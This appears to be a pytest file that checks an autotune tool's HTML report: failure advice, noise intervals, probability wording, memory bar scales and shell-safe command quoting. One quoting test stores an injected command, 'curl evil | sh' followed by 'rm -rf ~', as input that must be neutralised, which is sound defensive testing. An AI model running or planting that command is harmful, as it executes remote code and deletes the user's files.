"""What a report says must be true of the study: advice, noise, scales, and commands that can be typed."""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest
from html_outline import Outline
from report_studies import BUDGET, GIB, WINNER, add, bad, evidence_of, good, grid, new_study, predicted

from autotune.cli.main import main
from autotune.display.words import chance_words
from autotune.report.advice import advice_of
from autotune.report.forecast import Forecast
from autotune.report.page import report_page
from autotune.tuning.findings import findings_of
from trials.wire import Outcome

MEMORY_WORDS = ("--gpu-budget", "qlora")


def page_words(folder: Path, *outcomes: Outcome) -> str:
    study = new_study(folder)
    for point, outcome in zip(grid(), outcomes, strict=False):
        add(study, point, bad(outcome, message="RuntimeError: no kernel image"), with_prediction=False)
    return Outline(report_page(evidence_of(study, folder), None)).words()


@pytest.mark.parametrize("outcome", [Outcome.CRASH, Outcome.NAN, Outcome.TIMEOUT, Outcome.INVALID])
def test_a_study_that_failed_otherwise_than_in_memory_is_told_its_error(
    tmp_path: Path, outcome: Outcome
) -> None:
    words = page_words(tmp_path, outcome, outcome)
    answer = words.partition("Reproduce it")[0]
    assert not any(word in answer for word in (*MEMORY_WORDS, "fits"))
    assert "Every trial so far failed" in words
    assert f"Trial 2 ended in {outcome.value}" in words
    (command,) = re.findall(r"autotune show .*? 2(?= |$)", words)
    assert shlex.split(command)[-1] == "2" and "--storage" in command
    if outcome is Outcome.CRASH:
        assert "no kernel image" in words


def test_host_memory_is_no_reason_for_a_larger_gpu(tmp_path: Path) -> None:
    words = page_words(tmp_path, Outcome.HOST_OOM)
    answer = words.partition("Reproduce it")[0]
    assert "--host-budget" in answer and "qlora" not in answer
    assert "Nothing that was tried fits the host budget" in words


def test_out_of_device_memory_is_told_with_what_needs_less(tmp_path: Path) -> None:
    words = page_words(tmp_path, Outcome.OOM, Outcome.CRASH)
    assert all(word in words for word in MEMORY_WORDS)
    assert "Trial 2 ended in crash" in words


def test_what_was_never_launched_is_a_matter_of_memory_too(tmp_path: Path) -> None:
    study = new_study(tmp_path)
    add(study, WINNER, bad(Outcome.CRASH))
    assert not any("qlora" in one for one in advice_of(evidence_of(study, tmp_path)).sentences)
    study.set_note("skipped", 7)
    assert any("qlora" in one for one in advice_of(evidence_of(study, tmp_path)).sentences)


def noisy_words(folder: Path, second: float) -> tuple[str, str]:
    """The page's and the terminal's words of a winner at 2,725 tok/s and a second within its interval."""
    from autotune.display.results import findings_text

    study = new_study(folder)
    other = WINNER.model_copy(update={"lora_rank": 0})
    add(
        study,
        WINNER,
        good(
            WINNER,
            tokens_per_second=2725.0,
            tokens_per_second_low=1183.0,
            tokens_per_second_high=2760.0,
        ),
    )
    add(
        study,
        other,
        good(
            other,
            tokens_per_second=second,
            tokens_per_second_low=second - 10,
            tokens_per_second_high=second + 10,
        ),
    )
    page = Outline(report_page(evidence_of(study, folder), None)).words()
    return page, findings_text(findings_of(study))


def test_what_lies_within_a_noisy_interval_is_not_denied(tmp_path: Path) -> None:
    page, terminal = noisy_words(tmp_path, 2129.0)
    assert "No other configuration" not in page
    assert "Trial 2 (" in page and "2,129 tok/s) has an interval that overlaps the winner's" in page
    assert "more than 10% apart" in page
    assert "the interval of trial 2 (" in terminal and "more than 10 % is never given up" in terminal


def test_what_lies_outside_every_interval_is_denied(tmp_path: Path) -> None:
    page, terminal = noisy_words(tmp_path, 1100.0)
    assert "No other configuration that was measured is as fast within the noise" in page
    assert "overlaps" not in page + terminal


def test_nothing_uncertain_is_told_as_certain() -> None:
    assert chance_words(0.9995) == chance_words(1.0) == "more than 99 %"
    assert (chance_words(0.0), chance_words(0.0004)) == ("0 %", "less than 1 %")
    assert (chance_words(0.05), chance_words(0.99)) == ("5 %", "99 %")


@pytest.mark.parametrize("comparable", [True, False])
def test_both_bars_of_memory_have_one_scale(tmp_path: Path, comparable: bool) -> None:
    study = new_study(tmp_path)
    small = good(WINNER, required_device_bytes=3 * GIB, peak_allocated_bytes=2 * GIB)
    add(study, WINNER, small)
    values = {**predicted(WINNER), "required_device_bytes": 2 * BUDGET}
    page = report_page(evidence_of(study, tmp_path), Forecast(values, comparable, "predicted"))
    stacks = [a for a in Outline(page).all("div") if a.get("class") == "stack"]
    # 48 GiB predicted, 3 measured, 24 allowed: the larger of all is the whole width.
    assert [a["style"] for a in stacks] == ["width:100.00%", "width:6.25%"]
    assert "The whole width is 48.0 GiB, for both bars." in Outline(page).words()


def test_what_the_cpu_held_is_not_told_as_held_by_an_allocator(tmp_path: Path) -> None:
    study = new_study(tmp_path, device="cpu", gpu_name=None)
    add(study, WINNER, good(WINNER, gpu=None))
    assert "held where there is room" not in report_page(evidence_of(study, tmp_path), None)


@pytest.fixture
def exotic(alone: Path) -> str:
    """A study whose name has a space, in `s.db` of the working folder."""
    from report_studies import inputs

    from autotune.study import Study

    study = Study.open(f"sqlite:///{alone / 's.db'}", inputs(), "exotic nvme")
    add(study, WINNER, good(WINNER))
    return study.name


def test_the_pages_commands_can_be_typed(exotic: str, tmp_path: Path) -> None:
    from autotune.study import Study

    study = Study.load(f"sqlite:///{tmp_path / 's.db'}", exotic)
    words = Outline(report_page(evidence_of(study, tmp_path), None)).words()
    assert "autotune export 'exotic nvme' --storage sqlite:///" in words


def test_the_command_of_an_imported_study_is_one_command(tmp_path: Path) -> None:
    study = new_study(tmp_path)
    study.set_note("command", "autotune run --model x; curl evil | sh\nrm -rf ~")
    command = evidence_of(study, tmp_path).command
    assert command == "autotune run --model 'x;' curl evil '|' sh rm -rf '~'"


def test_a_dash_is_stdout(exotic: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["report", "--storage", "sqlite:///s.db", "--output", "-"]) == 0
    assert capsys.readouterr().out.startswith("<!doctype html>")
    assert sorted(path.name for path in Path().iterdir() if path.is_file()) == ["s.db"]
    assert main(["report", "--storage", "sqlite:///s.db", "--output", "-", "--json"]) == 2
    captured = capsys.readouterr()
    assert captured.out == "" and "name a file" in captured.err
